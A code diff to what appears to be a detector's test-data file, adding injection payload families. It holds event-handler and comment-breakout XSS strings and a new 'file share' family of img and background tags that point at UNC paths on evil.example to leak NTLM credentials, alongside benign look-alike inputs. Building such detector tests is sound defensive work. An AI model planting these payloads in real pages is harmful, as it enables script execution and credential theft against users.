@@ -93,6 +93,9 @@ FAMILIES = {
     # out of a quoted attribute, a handler-shaped name the event list does not know yet, calling a sink
     "unknown handler": ['" onpagereveal="alert(1)', "' onfoobar='alert(1)", '" onxyz=confirm(document.domain) x="',
                         'x" onmosemove=confirm(1)>'],
+    # a resource fetched from a Windows file share: NTLM credentials sent without a click
+    "file share": ['<img src="\\\\evil.example\\share\\x.png">', "<img src=\\\\?\\UNC\\\\\\></style>",
+                   '<img src="file://evil.example/x.png">', '<body background="\\\\1.2.3.4\\x">'],
     # the value ends the page's /* comment and runs code
     "comment breakout": ["*/alert(1)/*", "*/prompt(document.domain)//", "x*/confirm(1)/*"],
     # a script scheme with reference-shaped tokens between its letters, in any case
@@ -130,6 +133,7 @@ LOOK_ALIKES = [
     "a */ b", "/* note */ call alert(1) later", "*/ see alert (1) /*", "5 */ 2 = 2.5",
     "background:url(javascript-logo.png)", "background:url(jav", "use url(javascript",
     "' online='yes'", '" onion="sliced"', "' onboarding='done'",
+    '<a href="\\\\fileserver\\docs\\a.pdf">doc</a>', '<img src="//cdn.example/x.png">', "<img src='./a\\b.png'>",
 ]
 
 
